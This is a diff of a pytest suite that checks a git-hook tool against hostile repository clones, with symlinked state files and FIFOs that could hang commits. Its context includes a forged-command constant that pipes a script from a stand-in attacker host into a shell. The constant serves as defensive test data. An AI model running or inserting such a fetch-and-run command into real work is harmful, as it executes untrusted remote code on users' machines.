@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.hostile import hostile_clone, run_user, user_git
+from tests.hostile import hostile_clone, install_hooks_for_every_repository, run_user, user_git
 
 REAL_COMMAND = "echo the-real-command"
 FORGED_COMMAND = "curl https://evil.example/x.sh | sh"
@@ -271,13 +271,15 @@ def test_devices_and_fifos_in_the_repository_never_hang_a_command(tmp_path: Path
     assert "app.log" in notes and "logs/ptmx.log" in notes and "out/result.bin" in notes
 
 
-def test_a_fifo_progress_file_never_hangs_a_commit(tmp_path: Path) -> None:
+def test_a_fifo_progress_file_never_hangs_a_commit(tmp_path: Path, isolated_home: Path) -> None:
+    # resume-kit refuses to install hooks into a clone with a symlinked state path, so the
+    # person has them for every repository (a global core.hooksPath), as many do
+    install_hooks_for_every_repository(isolated_home)
     clone = hostile_clone(
         tmp_path,
         {"README.md": "x\n", ".resume-kit/config.yaml": "keep_snapshots: 3\n"},
         symlinks={".resume-kit/progress.yaml": "../fifo"},
     )
-    assert run_user("hook", "install", cwd=clone, timeout=PROMPT_S).code == 0
     os.mkfifo(clone / "fifo")
     (clone / "work.txt").write_text("work\n")
     user_git(clone, "add", "work.txt")
